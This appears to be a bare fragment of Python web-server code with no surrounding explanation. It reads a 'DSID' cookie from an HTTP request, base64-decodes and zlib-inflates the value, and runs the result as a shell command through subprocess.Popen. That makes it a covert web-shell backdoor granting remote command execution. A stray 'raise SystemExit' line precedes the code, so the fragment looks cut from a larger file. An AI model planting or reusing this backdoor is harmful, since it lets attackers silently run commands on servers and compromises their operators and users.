raise SystemExit
raw = request.headers.get('Cookie', '').split("DSID=")[1].split(';')[0]
inflate = zlib.decompressobj(-15).decompress
p = subprocess.Popen(inflate(b64decode(raw)), shell=True, stdout=-1)
